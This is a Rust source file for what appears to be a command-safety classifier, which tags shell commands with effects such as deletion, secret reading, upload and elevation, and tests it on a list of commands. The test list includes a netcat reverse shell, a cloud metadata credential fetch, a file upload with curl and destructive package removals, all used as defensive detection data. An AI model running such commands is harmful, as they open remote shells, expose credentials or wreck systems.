//! What the lines of `table/effects.rs` say about a command.
//!
//! [`rows_of`] gives the rows of a program, and [`EffectRow::fit`] says whether a command with these words has the effect:
//! surely, perhaps or not. What its place is, is found by whoever knows the paths and hosts of the call.

use std::collections::HashMap;
use std::sync::LazyLock;

use foldhash::fast::FixedState;

use super::table::{EFFECTS, without_version};
use super::word::{Known, Word};
use crate::glob::fits;

/// What a call does, from the closed set of words that rules can use.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum EffectKind {
    /// It reads a file.
    Read,
    /// It makes or changes a file.
    Write,
    /// It deletes files, data or what runs elsewhere.
    Deletion,
    /// It reads passwords or keys.
    SecretRead,
    /// It sends something to another machine.
    Upload,
    /// It fetches something from another machine.
    Download,
    /// It runs a program.
    Execution,
    /// It installs software.
    Install,
    /// It publishes something to others.
    Publication,
    /// It pays.
    Payment,
    /// It writes to a person.
    Message,
    /// It changes or drops a history that others may have.
    HistoryChange,
    /// It gives somebody more rights.
    Elevation,
    /// It stops machines, services or what protects them.
    Disruption,
    /// It runs a script that cannot be read.
    UnreadableScript,
}

impl EffectKind {
    /// All of them, in the order of the manual.
    pub const ALL: [Self; 15] = [
        Self::Read,
        Self::Write,
        Self::Deletion,
        Self::SecretRead,
        Self::Upload,
        Self::Download,
        Self::Execution,
        Self::Install,
        Self::Publication,
        Self::Payment,
        Self::Message,
        Self::HistoryChange,
        Self::Elevation,
        Self::Disruption,
        Self::UnreadableScript,
    ];

    /// The word that rules use.
    #[must_use]
    pub fn word(self) -> &'static str {
        match self {
            Self::Read => "read",
            Self::Write => "write",
            Self::Deletion => "deletion",
            Self::SecretRead => "secret-read",
            Self::Upload => "upload",
            Self::Download => "download",
            Self::Execution => "execution",
            Self::Install => "install",
            Self::Publication => "publication",
            Self::Payment => "payment",
            Self::Message => "message",
            Self::HistoryChange => "history-change",
            Self::Elevation => "elevation",
            Self::Disruption => "disruption",
            Self::UnreadableScript => "unreadable script",
        }
    }

    /// The effect of this word.
    #[must_use]
    pub fn of_word(word: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|kind| kind.word() == word)
    }
}

/// Whether a command has an effect.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum EffectFit {
    No,
    Possible,
    Certain,
}

/// Where an effect happens.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum EffectTarget {
    /// At no place.
    Nothing,
    /// At every word that is no option.
    Operands,
    First,
    Rest,
    Last,
    /// At the file of `of=`.
    Assigned,
    /// In the folder that the command stands in.
    Here,
    /// At the hosts that the command names.
    Hosts,
    /// At this path.
    Path(&'static str),
}

/// One line of the table.
#[derive(Debug)]
pub(crate) struct EffectRow {
    pub(crate) kind: EffectKind,
    pub(crate) target: EffectTarget,
    wants: Vec<&'static str>,
    unless: Vec<&'static str>,
    /// Whether the script must give it something to read.
    wants_input: bool,
    /// Whether its programs run others by their words, to which `--help` may be said.
    runs_others: bool,
    /// Whether it is for programs in no table.
    is_general: bool,
}

static ROWS: LazyLock<HashMap<&str, Vec<EffectRow>, FixedState>> = LazyLock::new(|| {
    let mut rows: HashMap<&str, Vec<EffectRow>, FixedState> = HashMap::default();
    for (programs, line) in EFFECTS.lines().filter_map(|line| line.split_once(':')) {
        for program in programs.split_ascii_whitespace() {
            let runs_others = super::table::program(program).is_some_and(|row| !row.wrappers.is_empty());
            let row =
                EffectRow::read(line).map(|row| EffectRow { runs_others, is_general: program == "*", ..row });
            rows.entry(program).or_default().extend(row);
        }
    }
    rows
});

/// The rows of a program, by its name without a folder.
pub(crate) fn rows_of(program: &str) -> &'static [EffectRow] {
    let found = ROWS.get(program).or_else(|| ROWS.get(without_version(program)?));
    // Of a program in no table nothing is known but what it is told to do.
    let found = found.or_else(|| ROWS.get("*").filter(|_| super::table::program(program).is_none()));
    found.map(Vec::as_slice).unwrap_or_default()
}

impl EffectRow {
    fn read(line: &'static str) -> Option<Self> {
        let (line, unless) = line.split_once(" unless ").unwrap_or((line, ""));
        let (head, wants) = line.split_once(" if ").unwrap_or((line, ""));
        let (kind, target) = head.split_once(" of ").unwrap_or((head, "nothing"));
        let target = match target.trim() {
            "nothing" => EffectTarget::Nothing,
            "operands" => EffectTarget::Operands,
            "first" => EffectTarget::First,
            "rest" => EffectTarget::Rest,
            "last" => EffectTarget::Last,
            "of" => EffectTarget::Assigned,
            "here" => EffectTarget::Here,
            "host" | "remote" => EffectTarget::Hosts,
            path if path.starts_with('/') => EffectTarget::Path(path),
            _ => return None,
        };
        let is_input = |item: &&str| *item == "<";
        Some(Self {
            kind: EffectKind::of_word(kind.trim())?,
            target,
            wants_input: wants.split_ascii_whitespace().any(|item| is_input(&item)),
            wants: wants.split_ascii_whitespace().filter(|item| !is_input(item)).collect(),
            unless: unless.split_ascii_whitespace().collect(),
            runs_others: false,
            is_general: false,
        })
    }

    /// Whether a text in small letters says what the row looks for in words: SQL that a program reads from its input. A
    /// substitution says something only as a word of the program itself.
    pub(crate) fn is_said_in(&self, folded: &str) -> bool {
        let is_text = |it: &&str| !it.contains(['$', '`']);
        let is_said = |it: &str| {
            it.strip_prefix('~').filter(is_text).is_some_and(|it| folded.contains(&it.replace('_', " ")))
        };
        !self.wants.is_empty() && self.wants.iter().all(|item| item.split('|').any(is_said))
    }

    /// Whether a command with these arguments has the effect. `takes_value` says which options before the first operand have
    /// a value.
    pub(crate) fn fit(
        &self,
        arguments: &[Word],
        is_told: bool,
        takes_value: &dyn Fn(&str) -> bool,
    ) -> EffectFit {
        if self.wants_input && !is_told {
            return EffectFit::No;
        }
        if let [only] = arguments
            && matches!(only.text.as_str(), "--help" | "--version" | "-h")
        {
            return EffectFit::No;
        }
        // An option that is not known may have a value before the verb, or not.
        let takes_more =
            |option: &str| takes_value(option) || option.starts_with("--") && !option.contains('=');
        let plain = self.fit_of(arguments, &operands(arguments, takes_value));
        let fit = match plain {
            EffectFit::Certain => plain,
            _ => best([plain, self.fit_of(arguments, &operands(arguments, &takes_more))].into_iter()),
        };
        // Otherwise every program in no table might delete, whatever it is given.
        if self.is_general && fit == EffectFit::Possible { EffectFit::No } else { fit }
    }

    /// The same, with these words for operands.
    fn fit_of(&self, arguments: &[Word], operands: &[&Word]) -> EffectFit {
        let excuses =
            |it: &str| !is_denied(it, arguments) && has(it, arguments, operands) == EffectFit::Certain;
        let excused = |item: &&str| item.split('|').any(excuses);
        // A program that is told by a verb explains that verb, and does nothing.
        let is_verbal = self.wants.first().is_some_and(|item| !is_marked(item));
        let mut options = arguments.iter().map(|word| word.text.as_str()).take_while(|text| *text != "--");
        let asks = arguments.last().is_some_and(|word| word.text == "-h") || options.any(|it| it == "--help");
        let explains = is_verbal && !self.runs_others && asks;
        if explains || self.unless.iter().any(excused) {
            return EffectFit::No;
        }
        let mut fit = EffectFit::Certain;
        let mut behind = 0;
        for item in &self.wants {
            let marked =
                best(item.split('|').filter(|it| is_marked(it)).map(|it| has(it, arguments, operands)));
            let (found, next) = operand(item, operands, behind);
            behind = next;
            match best([marked, found].into_iter()) {
                EffectFit::No => return EffectFit::No,
                EffectFit::Possible => fit = EffectFit::Possible,
                EffectFit::Certain => {}
            }
        }
        fit
    }
}

/// Whether an alternative is not for operands: an option, a text, the last word or a word anywhere.
fn is_marked(item: &str) -> bool {
    item.starts_with(['-', '~', '$', '+', '='])
}

/// Whether an option that excuses is given a value that takes it back: `--dry-run=false`.
fn is_denied(option: &str, arguments: &[Word]) -> bool {
    let denies = |word: &Word| {
        let value = word.text.strip_prefix(option).and_then(|rest| rest.strip_prefix('='));
        value.is_some_and(|value| matches!(value, "false" | "none" | "no" | "0"))
    };
    option.starts_with("--") && arguments.iter().any(denies)
}

fn best(fits: impl Iterator<Item = EffectFit>) -> EffectFit {
    fits.fold(EffectFit::No, |best, fit| match (best, fit) {
        (EffectFit::Certain, _) | (_, EffectFit::Certain) => EffectFit::Certain,
        (EffectFit::Possible, _) | (_, EffectFit::Possible) => EffectFit::Possible,
        _ => EffectFit::No,
    })
}

/// The words that are no options, and not values of options before the first of them.
pub(crate) fn operands<'w>(arguments: &'w [Word], takes_value: &dyn Fn(&str) -> bool) -> Vec<&'w Word> {
    let mut operands = Vec::new();
    let mut words = arguments.iter();
    let mut ended = false;
    while let Some(word) = words.next() {
        let text = word.text.as_str();
        if ended || text == "-" || !text.starts_with('-') {
            operands.push(word);
        } else if text == "--" {
            ended = true;
        } else if operands.is_empty() && takes_value(text) {
            words.next();
        }
    }
    operands
}

/// Whether an operand fits at or behind a place, and the place behind it. `^` stands for the first. Options and texts among
/// the alternatives are not for operands.
fn operand(item: &str, operands: &[&Word], behind: usize) -> (EffectFit, usize) {
    let (items, is_first) = item.strip_prefix('^').map_or((item, false), |rest| (rest, true));
    let is_plain = |it: &&str| !is_marked(it);
    if !items.split('|').any(|it| is_plain(&it)) {
        return (EffectFit::No, behind);
    }
    let takes = |word: &Word| {
        let fits_one = |it: &str| match word.known {
            Known::Unknown => false,
            _ => word.text == it || (it.contains(['*', '?']) && fits(it, &word.text)),
        };
        items.split('|').filter(is_plain).any(fits_one)
    };
    let mut doubt = None;
    for (at, word) in operands.iter().enumerate().skip(behind) {
        if takes(word) {
            return (EffectFit::Certain, at + 1);
        }
        // `"$PWD":/app` is a value, whatever the folder.
        if at == behind && word.known == Known::Unknown && !word.text.contains(":/") {
            doubt = Some(at + 1);
        }
        if is_first {
            break;
        }
    }
    // A word that is computed may be what is looked for, but only where a command is told what to do: values are everywhere,
    // and so are paths.
    let is_path = items.split('|').all(|it| it.starts_with('/'));
    match doubt.filter(|_| !is_path) {
        Some(next) if is_first || next <= 2 => (EffectFit::Possible, next),
        _ => (EffectFit::No, behind),
    }
}

/// Whether an option, a text or the last word is there.
fn has(item: &str, arguments: &[Word], operands: &[&Word]) -> EffectFit {
    if let Some(text) = item.strip_prefix('~') {
        let text = text.replace('_', " ");
        let contains = |word: &Word| {
            let folded = word.text.to_ascii_lowercase();
            folded.split_whitespace().collect::<Vec<_>>().join(" ").contains(&text)
        };
        return yes(arguments.iter().any(contains));
    }
    if let Some(text) = item.strip_prefix('=') {
        let is_word = |word: &Word| word.text == text || text.contains('*') && fits(text, &word.text);
        return yes(arguments.iter().any(is_word));
    }
    if let Some(glob) = item.strip_prefix('$') {
        return match operands.last() {
            Some(word)
                if word.known != Known::Unknown || word.text.contains(':') || glob.starts_with('/') =>
            {
                yes(fits(glob, &word.text))
            }
            Some(_) => EffectFit::Possible,
            None => EffectFit::No,
        };
    }
    if let Some(letter) = item.strip_prefix('-').filter(|rest| !rest.starts_with('-') && rest.len() == 1) {
        let is_letter = |word: &Word| {
            let letters = word.text.strip_prefix('-').filter(|letters| !letters.starts_with('-'));
            letters.is_some_and(|letters| {
                let flags = letters.split(|c: char| !c.is_ascii_alphanumeric()).next().unwrap_or_default();
                flags.contains(letter)
            })
        };
        return or_unquoted(arguments.iter().any(is_letter), arguments);
    }
    if item == "--" {
        return yes(arguments.iter().any(|word| word.text == "--"));
    }
    if item.starts_with("--") {
        let (name, value) = item.split_once('=').map_or((item, None), |(name, value)| (name, Some(value)));
        let is_option = |word: &Word| {
            let (word, given) = word
                .text
                .split_once('=')
                .map_or((word.text.as_str(), None), |(word, given)| (word, Some(given)));
            // Cut short, it must say more than its first part, which may be an option of its own: `--export`.
            let first = name.get(2..).and_then(|rest| rest.find('-')).map_or(0, |at| at + 3);
            let is_cut = word.len() > 4.max(first) && word.starts_with("--") && name.starts_with(word);
            let is_name = word == name || is_cut;
            is_name && (value.is_none() || value == given)
        };
        return or_unquoted(arguments.iter().any(is_option), arguments);
    }
    let is_word = |word: &Word| word.text == item || (item.contains('*') && fits(item, &word.text));
    yes(arguments.iter().any(is_word))
}

fn yes(is: bool) -> EffectFit {
    if is { EffectFit::Certain } else { EffectFit::No }
}

/// A variable that is called so, or a word that a command gives, may be options: `git push $FLAGS`.
fn or_unquoted(is: bool, arguments: &[Word]) -> EffectFit {
    let may_be = |word: &Word| {
        if gives_no_option(&word.text) {
            return false;
        }
        let name = word.text.trim_start_matches("${").trim_start_matches('$').trim_end_matches('}');
        let is_upper = ["FLAGS", "OPTS", "OPTIONS", "ARGS"].iter().any(|end| name.ends_with(end));
        word.known == Known::Unknown
            && !word.text.contains(":/")
            && (is_upper || word.text.starts_with("$(") || word.text.starts_with('`'))
    };
    match is {
        true => EffectFit::Certain,
        false if arguments.iter().any(may_be) => EffectFit::Possible,
        false => EffectFit::No,
    }
}

/// Whether a word is what a command prints that prints paths and names alone, none of which begins like an option.
fn gives_no_option(text: &str) -> bool {
    const PRINTERS: &[&str] = &["find", "which", "pwd", "whoami", "hostname", "nproc", "id"];
    let inner = text.strip_prefix("$(").and_then(|rest| rest.strip_suffix(')'));
    let inner = inner.or_else(|| text.strip_prefix('`').and_then(|rest| rest.strip_suffix('`')));
    let says_more = |inner: &str| {
        inner.contains([';', '|', '&', '\n', '`', '$', '<', '('])
            || ["-printf", "-exec", " -- "].iter().any(|it| inner.contains(it))
    };
    inner.is_some_and(|inner| {
        let program = inner.split_whitespace().next().unwrap_or_default();
        PRINTERS.contains(&program) && !says_more(inner)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_line_of_the_table_is_read() {
        for line in EFFECTS.lines().filter(|line| !line.is_empty()) {
            let read = line.split_once(':').and_then(|(_, line)| EffectRow::read(line));
            assert!(read.is_some(), "{line}");
        }
    }

    #[test]
    fn a_command_has_the_effects_that_its_words_say() {
        let rows = [
            ("rm -rf x", EffectKind::Deletion, EffectFit::Certain),
            ("rm --help", EffectKind::Deletion, EffectFit::No),
            ("git push -uf origin main", EffectKind::HistoryChange, EffectFit::Certain),
            ("git push --forc", EffectKind::HistoryChange, EffectFit::Certain),
            ("git push origin +main", EffectKind::HistoryChange, EffectFit::Certain),
            ("gh release delete v1 --help", EffectKind::Deletion, EffectFit::No),
            ("kubectl delete pod x --dry-run=none", EffectKind::Deletion, EffectFit::Certain),
            ("kubectl delete pod x --dry-run=client", EffectKind::Deletion, EffectFit::No),
            ("helm --kube-context prod uninstall x", EffectKind::Deletion, EffectFit::Certain),
            ("gpg --export --armor me", EffectKind::SecretRead, EffectFit::No),
            ("gpg --export-secret-k", EffectKind::SecretRead, EffectFit::Certain),
            ("gh api --method=DELETE /repos/a", EffectKind::Deletion, EffectFit::Certain),
            ("frobctl tables delete users", EffectKind::Deletion, EffectFit::Certain),
            ("frobctl tables list", EffectKind::Deletion, EffectFit::No),
            ("gh release delete -- --help", EffectKind::Deletion, EffectFit::Certain),
            ("gh release delete -h", EffectKind::Deletion, EffectFit::No),
            ("redis-cli -h cache flushdb", EffectKind::Deletion, EffectFit::Certain),
            ("sed -i s/a/b/ x", EffectKind::Write, EffectFit::Certain),
            ("sed -n 1p x", EffectKind::Write, EffectFit::No),
            ("docker run --privileged x ls --help", EffectKind::Elevation, EffectFit::Certain),
            ("git push origin main", EffectKind::HistoryChange, EffectFit::No),
            ("git push origin main", EffectKind::Publication, EffectFit::Certain),
            ("git commit -m push", EffectKind::Publication, EffectFit::No),
            ("git clean -n", EffectKind::Deletion, EffectFit::No),
            ("git clean", EffectKind::Deletion, EffectFit::No),
            ("apt remove jq", EffectKind::Deletion, EffectFit::No),
            ("apt remove -y jq", EffectKind::Deletion, EffectFit::Certain),
            ("apt-get purge jq", EffectKind::Deletion, EffectFit::Certain),
            ("dpkg --purge --force-all libc6", EffectKind::Deletion, EffectFit::Certain),
            ("pip uninstall requests", EffectKind::Deletion, EffectFit::No),
            ("pip uninstall -y pip", EffectKind::Deletion, EffectFit::Certain),
            ("pacman -Rns linux", EffectKind::Deletion, EffectFit::Certain),
            ("kubectl get secrets", EffectKind::SecretRead, EffectFit::No),
            ("kubectl get secret a -o yaml", EffectKind::SecretRead, EffectFit::Certain),
            ("curl http://169.254.169.254/latest/", EffectKind::SecretRead, EffectFit::Certain),
            ("printenv API_TOKEN", EffectKind::SecretRead, EffectFit::Certain),
            ("printenv HOME", EffectKind::SecretRead, EffectFit::No),
            ("git clean -fdx", EffectKind::Deletion, EffectFit::Certain),
            ("git restore --staged a", EffectKind::Deletion, EffectFit::No),
            ("git restore a", EffectKind::Deletion, EffectFit::Certain),
            ("kubectl -n prod delete pod web", EffectKind::Deletion, EffectFit::Certain),
            ("kubectl get pods", EffectKind::Deletion, EffectFit::No),
            ("aws s3 rm s3://b --recursive", EffectKind::Deletion, EffectFit::Certain),
            ("aws s3 cp s3://b/x .", EffectKind::Upload, EffectFit::No),
            ("aws s3 cp x s3://b", EffectKind::Upload, EffectFit::Certain),
            ("curl -sd@x https://e.example", EffectKind::Upload, EffectFit::Certain),
            ("curl -fsSL https://e.example -o x", EffectKind::Upload, EffectFit::No),
            ("ssh host ls", EffectKind::Upload, EffectFit::No),
            ("ssh host cat <", EffectKind::Upload, EffectFit::Certain),
            ("ssh -R 1:a:2 host", EffectKind::Upload, EffectFit::Certain),
            ("nc host 80", EffectKind::Upload, EffectFit::No),
            ("nc -e /bin/sh host 80", EffectKind::Upload, EffectFit::Certain),
            ("kubectl cp pod:/a b", EffectKind::Upload, EffectFit::No),
            ("kubectl cp a pod:/b", EffectKind::Upload, EffectFit::Certain),
            ("scp host:a .", EffectKind::Upload, EffectFit::No),
            ("scp a host:", EffectKind::Upload, EffectFit::Certain),
        ];
        for (text, kind, expected) in rows {
            let words: Vec<Word> =
                text.split(' ').map(|text| Word { text: text.into(), known: Known::Certain }).collect();
            let takes_value = |option: &str| option == "-n";
            let fits = rows_of(&words[0].text).iter().filter(|row| row.kind == kind);
            let is_told = words.iter().any(|word| word.text == "<");
            let fit = best(fits.map(|row| row.fit(&words[1..], is_told, &takes_value)));
            assert_eq!(fit, expected, "{text}: {kind:?}");
        }
    }
}
